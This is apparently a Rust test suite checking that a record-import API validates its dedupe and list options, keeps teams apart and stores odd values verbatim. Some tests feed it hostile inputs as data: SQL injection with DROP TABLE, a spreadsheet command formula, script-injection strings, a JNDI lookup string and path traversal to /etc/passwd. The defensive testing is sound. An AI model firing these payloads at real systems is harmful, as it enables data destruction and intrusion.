//! Options and values that mean something they must not. (B-SEM)
//!
//! B-SEM-22 needs a required property, and no property that every team has is one.

use std::thread;

use serde_json::{Value, json};

use super::bodies::{good_body, good_body_with, good_row, import_of, import_with, options_inputs};
use super::case::{Case, Change, Input, Refused, Row, World, bad_rows, script};
use super::runner::run_section;
use crate::support::request::Request;
use crate::support::server::Launch;

#[test]
fn meaning() {
    run_section(Launch::new(), &cases());
}

fn cases() -> Vec<Case> {
    vec![
        Refused::with(&[400], &["invalid_request"], unknown_slugs).case("B-SEM-01"),
        Refused::with(&[400], &["invalid_request"], several_slugs).saying("dedupe_by").case("B-SEM-02"),
        Refused::with(&[400], &["invalid_request"], slugs_that_are_none).saying("dedupe_by").case("B-SEM-04"),
        Refused::with(&[400], &["invalid_request"], types_that_are_no_key).saying("dedupe_by").case("B-SEM-04 types"),
        script("B-SEM-05", slug_of_sql),
        script("B-SEM-08", two_jobs_with_the_same_keys),
        script("B-SEM-10", keys_too_long),
        script("B-SEM-13", empty_keys_match_nothing),
        bad_rows("B-SEM-14 beside", "contact", "invalid_row", fields_beside),
        bad_rows("B-SEM-14 inside", "contact", "unknown_property", fields_inside),
        script("B-SEM-16", list_of_another_team),
        script("B-SEM-17", reference_to_another_team),
        script("B-SEM-19 and 20", values_are_verbatim),
        Refused::with(&[404], &["unknown_object_type"], unknown_types).case("B-SEM-23"),
    ]
}

fn unknown_slugs(world: &World) -> Vec<Input> {
    options_inputs(
        world,
        &[
            r#"{"dedupe_by":"emial"}"#,
            r#"{"dedupe_by":["no_such_slug"]}"#,
            r#"{"dedupe_by":"Email"}"#,
            r#"{"dedupe_by":"email.x"}"#,
            r#"{"dedupe_by":"id"}"#,
            r#"{"dedupe_by":"__proto__"}"#,
        ],
    )
}

fn several_slugs(world: &World) -> Vec<Input> {
    options_inputs(world, &[r#"{"dedupe_by":["email","full_name"]}"#, r#"{"dedupe_by":["email","email"]}"#])
}

fn slugs_that_are_none(world: &World) -> Vec<Input> {
    let texts = [
        r#"{"dedupe_by":1}"#,
        r#"{"dedupe_by":{}}"#,
        r#"{"dedupe_by":""}"#,
        r#"{"dedupe_by":true}"#,
        r#"{"dedupe_by":[null]}"#,
        r#"{"dedupe_by":[["email"]]}"#,
        r#"{"dedupe_by":[""]}"#,
    ];
    options_inputs(world, &texts)
}

fn types_that_are_no_key(world: &World) -> Vec<Input> {
    options_inputs(
        world,
        &[r#"{"dedupe_by":"department"}"#, r#"{"dedupe_by":"company"}"#, r#"{"dedupe_by":"actions"}"#],
    )
}

fn slug_of_sql(world: &mut World) -> Change {
    let slug = r#"email"); DROP TABLE record; --"#;
    let records = world.server.home().rows_of("record");
    let options = json!({"dedupe_by": slug}).to_string();
    let answer = world.client().import("contact", good_body_with(&options));
    assert_eq!((answer.status, answer.code().as_deref()), (400, Some("invalid_request")), "{}", answer.text());
    assert_eq!(world.server.home().rows_of("record"), records, "the table is still there");
    Change::nothing()
}

/// Two jobs at once over the same keys, one forwards and one backwards: one record a key, and no row fails.
fn two_jobs_with_the_same_keys(world: &mut World) -> Change {
    const KEYS: usize = 5_000;
    let row = |number: usize, name: &str| format!(r#"{{"default":{{"external_id":"both-{number}","name":"{name}"}}}}"#);
    let options = r#"{"dedupe_by":"external_id","update_existing":true}"#;
    let forwards: Vec<String> = (0..KEYS).map(|number| row(number, "forwards")).collect();
    let backwards: Vec<String> = (0..KEYS).rev().map(|number| row(number, "backwards")).collect();
    let client = world.client();
    let jobs: Vec<Value> = thread::scope(|scope| {
        let job = |rows: &[String]| {
            let body = import_with(rows, options);
            let client = client.clone();
            scope.spawn(move || client.import_and_wait("deal", body))
        };
        let running = [job(&forwards), job(&backwards)];
        running.map(|job| job.join().expect("a job")).into()
    });
    let created =
        |job: &Value| job["results"].as_array().unwrap().iter().filter(|result| result["created"] == true).count();
    for job in &jobs {
        assert_eq!((job["failed"].as_u64(), job["succeeded"].as_u64()), (Some(0), Some(KEYS as u64)));
    }
    assert_eq!(created(&jobs[0]) + created(&jobs[1]), KEYS, "each record is made once");
    for number in 0..KEYS {
        assert_eq!(jobs[0]["results"][number]["id"], jobs[1]["results"][KEYS - 1 - number]["id"], "key {number}");
    }
    Change::records("deal", KEYS)
}

fn keys_too_long(world: &mut World) -> Change {
    let row = |length: usize, slug: &str| json!({"default": {slug: "k".repeat(length)}}).to_string();
    let rows =
        [row(2_048, "full_name"), row(2_049, "full_name"), row(100_000, "full_name"), row(100_000, "description")];
    let job = world.client().import_and_wait("contact", import_with(&rows, r#"{"dedupe_by":"full_name"}"#));
    for (index, is_too_long) in [false, true, true, false].into_iter().enumerate() {
        let result = &job["results"][index];
        assert_eq!(result["created"], !is_too_long, "{index}: {result}");
        assert!(!is_too_long || result["error"]["code"] == "dedupe_value_too_long", "{result}");
    }
    Change::records("contact", 2)
}

fn empty_keys_match_nothing(world: &mut World) -> Change {
    let values = [r#"{}"#, r#"{"email":null}"#, r#"{"email":""}"#, r#"{"email":" \t\u2003"}"#];
    let rows: Vec<String> = values.iter().chain(&values).map(|value| format!(r#"{{"default":{value}}}"#)).collect();
    let mut created = 0;
    for options in
        [r#"{"dedupe_by":"email"}"#, r#"{"dedupe_by":"email","caseInsensitive":false,"update_existing":true}"#]
    {
        let job = world.client().import_and_wait("contact", import_with(&rows, options));
        for (index, result) in job["results"].as_array().unwrap().iter().enumerate() {
            assert_eq!(result["created"], true, "{}: {result}", rows[index]);
        }
        created += rows.len();
    }
    Change::records("contact", created)
}

fn fields_beside() -> Vec<Row> {
    [
        r#"{"team_id":"5d1c7e0a-0000-4000-8000-000000000001","default":{}}"#,
        r#"{"created_at":"2000-01-01T00:00:00Z","default":{}}"#,
        r#"{"source":["x"],"default":{}}"#,
        r#"{"updated_at":null,"default":{}}"#,
        r#"{"deleted_at":"2000-01-01","default":{}}"#,
        r#"{"is_user_object":true,"default":{}}"#,
        r#"{"version":1}"#,
    ]
    .map(Row::of)
    .into()
}

fn fields_inside() -> Vec<Row> {
    ["team_id", "created_at", "updated_at", "deleted_at", "source", "record_no", "id"]
        .map(|slug| Row::of(&format!(r#"{{"default":{{"{slug}":"x"}}}}"#)))
        .into()
}

fn make_list(world: &World) -> String {
    let other = world.other_client();
    let request = Request::post(other.path("lists")).key(&other.key).json(r#"{"template_id":"partnerships"}"#);
    let answer = other.send(&request);
    assert_eq!(answer.status, 201, "{}", answer.text());
    answer.json()["id"].as_str().expect("the list's id").to_owned()
}

/// The answer does not tell a list of another team from a list that nobody has.
fn list_of_another_team(world: &mut World) -> Change {
    let list_id = make_list(world);
    let nobodys = "5d1c7e0a-0000-4000-8000-00000000feed";
    let answers = [list_id.as_str(), nobodys].map(|id| {
        let body = import_with(&[good_row("organization")], &json!({"list_id": id}).to_string());
        let answer = world.client().import("organization", body);
        assert_eq!((answer.status, answer.code().as_deref()), (400, Some("invalid_request")), "{}", answer.text());
        answer.text_without_request_id().replace(id, "LIST")
    });
    assert_eq!(answers[0], answers[1]);
    // The team that has it can use it, for the type it is of.
    let other = world.other_client();
    let of_another_type = other.import("contact", good_body_with(&json!({"list_id": list_id}).to_string()));
    assert_eq!(of_another_type.status, 400, "{}", of_another_type.text());
    Change::no_records()
}

fn reference_to_another_team(world: &mut World) -> Change {
    let job = world.other_client().import_and_wait("organization", import_of(&[good_row("organization")]));
    let theirs = job["results"][0]["id"].as_str().expect("a record").to_owned();
    let nobodys = "5d1c7e0a-0000-7000-8000-00000000feed";
    let rows = [theirs.as_str(), nobodys].map(|id| json!({"default": {"company": id}}).to_string());
    let results = world.client().import_and_wait("contact", import_of(&rows))["results"].clone();
    let errors = [(0, theirs.as_str()), (1, nobodys)].map(|(index, id): (usize, &str)| {
        let error = &results[index]["error"];
        assert_eq!(error["code"], "reference_not_found", "{}", results[index]);
        error.to_string().replace(id, "RECORD")
    });
    assert_eq!(errors[0], errors[1]);
    // The other team's record is what it was, and is removed so that its count is too.
    let other = world.other_client();
    assert_eq!(other.record("organization", &theirs).status, 200);
    assert_eq!(
        other.send(&Request::new("DELETE", other.path(&format!("organization/{theirs}"))).key(&other.key)).status,
        204
    );
    Change::no_records()
}

/// What a spreadsheet or a page could run is a text like any other here.
fn values_are_verbatim(world: &mut World) -> Change {
    let texts = [
        "=1+1",
        "+x",
        "-x",
        "@x",
        "\tx",
        "\rx",
        "\n",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org\",\"x\")",
        "<script>alert(1)</script>",
        "javascript:alert(1)",
        "\"><img src=x onerror=alert(1)>",
        "'; DROP TABLE record; --",
        "${jndi:ldap://example.org/x}",
        "{{7*7}}",
        "%s%n%x",
        "../../etc/passwd",
        " leading and trailing ",
        "e\u{301}",
        "\u{202e}reversed",
        "\u{feff}marked",
        "\u{1}\u{7f}\u{85}\u{2028}",
        "👩‍👩‍👧‍👦",
        "\u{10ffff}",
    ];
    let rows = texts.map(|text| json!({"default": {"full_name": text, "tags": [], "description": text}}).to_string());
    let client = world.client();
    let job = client.import_and_wait("contact", import_of(&rows));
    for (text, result) in texts.iter().zip(job["results"].as_array().unwrap()) {
        let id = result["id"].as_str().unwrap_or_else(|| panic!("{text:?}: {result}"));
        let record = client.record("contact", id).json();
        assert_eq!(record["default"]["full_name"], *text, "{text:?}");
        assert_eq!(record["default"]["description"], *text, "{text:?}");
    }
    Change::records("contact", texts.len())
}

fn unknown_types(world: &World) -> Vec<Input> {
    let long = "t".repeat(5 << 10);
    let types =
        ["people", "..%2Fx", "record;%20drop", "record%3B%20drop", "contacts", "Contact", "message", "%00", &long];
    let client = world.client();
    let input = |object_type: &&str| {
        let target = client.path(&format!("{object_type}/import"));
        let label: String = object_type.chars().take(20).collect();
        Input::new(label, client.import_request("contact", good_body()).target(target).bytes())
    };
    types.iter().map(input).collect()
}
